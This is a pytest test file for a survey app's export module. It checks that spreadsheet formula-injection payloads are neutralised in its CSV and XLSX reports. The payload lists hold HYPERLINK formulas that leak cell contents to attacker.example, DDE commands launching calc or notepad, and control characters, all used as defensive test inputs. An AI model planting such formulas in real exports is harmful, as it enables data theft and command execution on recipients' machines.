"""Hostile text never reaches an official's spreadsheet as a formula, and never breaks an export.

A citizen's comment and a manager's unit names carry every payload of issue 11 (formulas,
DDE, a leading tab or carriage return, control characters XML forbids); every export the
product writes is then downloaded (the report CSV and XLSX, the responses CSV and XLSX, the
codebook, the CLI's report files), each workbook opened with openpyxl and each CSV read as text.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from surveyapp.models import Response, Unit
from surveyapp.services.exports.cells import REPLACEMENT, safe_cell, safe_text
from tests.dashboard.conftest import COMMUNE, MONTH, PROVINCE, sign_in

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PROCEDURE_CODE = re.compile(r"^\d\.\d{6}$")  # a catalogue code (1.001612) is text, not a number

#: The payloads of issue 11, and a few variants a tester would try next.
COMMENT_PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "\t=1+1",
    "\r=1+1",
    "\x01ctl\x0bchar",
    "=cmd|' /C notepad'!'A1'\x00?",  # only stored on SQLite; PostgreSQL text refuses NUL
    "  =1+1",
    "\n@SUM(A1)",
    "\uff1d1+1",  # full-width equals sign
]
#: Names a manager gives sub-units (the form strips surrounding blanks).
UNIT_NAME_PAYLOADS = [
    '=HYPERLINK("http://attacker.example/","Xã An Toàn")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|x",
]
RENAMED_COMMUNE = '=HYPERLINK("http://attacker.example/?"&A1,"Xã Tân Lập")'


def test_the_cell_guard_quotes_formulas_replaces_forbidden_characters_and_leaves_numbers_alone() -> None:
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("-2+3+cmd|x") == "'-2+3+cmd|x"
    assert safe_text("\t=1+1") == "'\t=1+1" and safe_text("\r=1+1") == "'\r=1+1"
    assert safe_text("  @SUM(A1)") == "'  @SUM(A1)"
    assert safe_text("\x01ctl\x0bchar") == f"{REPLACEMENT}ctl{REPLACEMENT}char"
    assert safe_text("lone \ud800 surrogate \ufffe") == f"lone {REPLACEMENT} surrogate {REPLACEMENT}"
    assert safe_text("Cán bộ nhiệt tình, 5 sao\nrất tốt\t!") == "Cán bộ nhiệt tình, 5 sao\nrất tốt\t!"
    assert safe_text("") == ""
    for number in (-0.05, -3, 0.8524, 12):
        assert safe_cell(number) == number
    assert safe_cell(None) is None


# ---------------------------------------------------------------- the hostile month
def _signed_in(app: Flask, username: str) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, username).status_code == 302
    return client


def _add_response(db, unit: Unit, comment: str, submitted_at: datetime | None = None) -> None:  # type: ignore[no-untyped-def]
    template = db.scalar(select(Response).where(Response.month == MONTH).order_by(Response.id))
    db.add(Response(
        uid=f"hostile-{unit.code}-{len(comment)}-{abs(hash(comment)) % 10**8}",
        definition_pk=template.definition_pk, definition_id=template.definition_id,
        definition_version=template.definition_version, unit_id=unit.id, counter_id=None, channel="qr",
        submitted_at=submitted_at or template.submitted_at, month=MONTH, answers=dict(template.answers),
        comment=comment,
    ))


@pytest.fixture
def hostile_month(app: Flask, db) -> list[str]:  # type: ignore[no-untyped-def]
    """The commune's manager names sub-units with payloads and renames the commune itself;
    citizens of those sub-units left a comment each. Returns the comments as stored."""
    manager = _signed_in(app, "tanlap-manager")
    for index, name in enumerate(UNIT_NAME_PAYLOADS):
        reply = manager.post("/manage/units/new", data={"code": f"HOSTILE-{index}", "name": name, "parent_code": COMMUNE})
        assert reply.status_code == 302, reply.get_data(as_text=True)
    reply = manager.post(f"/manage/units/{COMMUNE}", data={"name": RENAMED_COMMUNE, "parent_code": "DEMO-P-ANPHU"})
    if reply.status_code != 302:  # the commune's parent is not the manager's to choose: keep it
        parent = db.scalar(select(Unit).where(Unit.code == COMMUNE)).parent
        reply = manager.post(f"/manage/units/{COMMUNE}", data={"name": RENAMED_COMMUNE, "parent_code": parent.code})
    assert reply.status_code == 302, reply.get_data(as_text=True)
    db.expire_all()
    units = db.scalars(select(Unit).where(Unit.code.like("HOSTILE-%")).order_by(Unit.code)).all()
    assert [u.name for u in units] == UNIT_NAME_PAYLOADS
    stored = [c for c in COMMENT_PAYLOADS if "\x00" not in c or db.get_bind().dialect.name == "sqlite"]
    for index, comment in enumerate(stored):
        _add_response(db, units[index % len(units)], comment)
    db.commit()
    return stored


def _csv_cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _assert_csv_is_inert(rows: list[list[str]]) -> list[str]:
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(DANGEROUS_STARTS) or _is_number(cell), repr(cell)
        assert "\x01" not in cell and "\x0b" not in cell and "\x00" not in cell, repr(cell)
    return cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_workbook_is_inert(data: bytes | Path) -> list[Any]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_STARTS), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    assert not cell.value.lstrip(" \n").startswith(("=", "@", "\uff1d")), cell.value
                    assert not _is_number(cell.value) or PROCEDURE_CODE.match(cell.value), (
                        f"{sheet.title}!{cell.coordinate} holds the number {cell.value!r} as text")
                values.append(cell.value)
    return values


def test_every_export_url_neutralises_hostile_comments_and_unit_names(app, hostile_month) -> None:  # type: ignore[no-untyped-def]
    admin = _signed_in(app, "admin")
    neutralised_comments = {safe_text(c) for c in hostile_month}
    assert all(c.startswith("'") or REPLACEMENT in c for c in neutralised_comments)

    for code in (PROVINCE, COMMUNE):
        reply = admin.get(f"/reports/{code}/{MONTH}.csv")
        assert reply.status_code == 200
        cells = _assert_csv_is_inert(_csv_cells(reply.data))
        assert safe_text(RENAMED_COMMUNE) in cells
        reply = admin.get(f"/reports/{code}/{MONTH}.xlsx")
        assert reply.status_code == 200
        assert safe_text(RENAMED_COMMUNE) in _assert_workbook_is_inert(reply.data)
    commune_csv = _assert_csv_is_inert(_csv_cells(admin.get(f"/reports/{COMMUNE}/{MONTH}.csv").data))
    assert {safe_text(name) for name in UNIT_NAME_PAYLOADS} <= set(commune_csv)  # sub-units' rows

    reply = admin.get(f"/reports/{COMMUNE}/{MONTH}/responses.csv")
    assert reply.status_code == 200
    rows = _csv_cells(reply.data)
    cells = _assert_csv_is_inert(rows)
    assert neutralised_comments <= set(cells)
    assert {safe_text(name) for name in UNIT_NAME_PAYLOADS} <= set(cells)

    reply = admin.get(f"/reports/{COMMUNE}/{MONTH}/responses.xlsx")
    assert reply.status_code == 200  # the control characters used to answer 500 here, for good
    values = _assert_workbook_is_inert(reply.data)
    assert {c.replace("\r", "\n") for c in neutralised_comments} <= set(values)  # XML reads CR as LF
    assert f"{REPLACEMENT}ctl{REPLACEMENT}char" in values

    reply = admin.get(f"/reports/{COMMUNE}/{MONTH}/codebook.csv")
    assert reply.status_code == 200
    _assert_csv_is_inert(_csv_cells(reply.data))


def test_the_report_command_writes_inert_csv_and_xlsx(runner, hostile_month, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for code in (PROVINCE, COMMUNE):
        result = runner.invoke(args=["report", "--unit", code, "--month", MONTH, "--format", "csv"])
        assert result.exit_code == 0, result.output
        assert safe_text(RENAMED_COMMUNE) in _assert_csv_is_inert(_csv_cells(result.stdout_bytes))
        workbook = tmp_path / f"{code}.xlsx"
        result = runner.invoke(args=["report", "--unit", code, "--month", MONTH, "--format", "xlsx", "--output", str(workbook)])
        assert result.exit_code == 0, result.output
        assert safe_text(RENAMED_COMMUNE) in _assert_workbook_is_inert(workbook)


def test_numbers_stay_numbers_and_negative_changes_are_not_quoted(app, hostile_month) -> None:  # type: ignore[no-untyped-def]
    admin = _signed_in(app, "admin")
    rows = _csv_cells(admin.get(f"/reports/{PROVINCE}/{MONTH}.csv").data)
    header = rows[1]
    changes = [dict(zip(header, row, strict=True)) for row in rows[3:] if row[0] == "change"]
    diffs = [float(row["value"]) for row in changes if row["value"]]
    lows = [row["ci_low"] for row in changes if row["ci_low"]]
    assert diffs and any(low.startswith("-") for low in lows)  # negative bounds, written as numbers
    assert all(_is_number(low) for low in lows)

    book = load_workbook(io.BytesIO(admin.get(f"/reports/{PROVINCE}/{MONTH}.xlsx").data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=3):
            for cell in row[3:8]:  # value, ci_low, ci_high, n, count
                assert cell.value is None or isinstance(cell.value, int | float), (sheet.title, cell.coordinate, cell.value)
    responses = load_workbook(io.BytesIO(admin.get(f"/reports/{COMMUNE}/{MONTH}/responses.xlsx").data)).worksheets[0]
    header = [cell.value for cell in responses[1]]
    for row in responses.iter_rows(min_row=2, values_only=True):
        record = dict(zip(header, row, strict=True))
        assert isinstance(record["trips"], int)
        assert record["TC01"] is None or record["TC01"] == "na" or isinstance(record["TC01"], int)
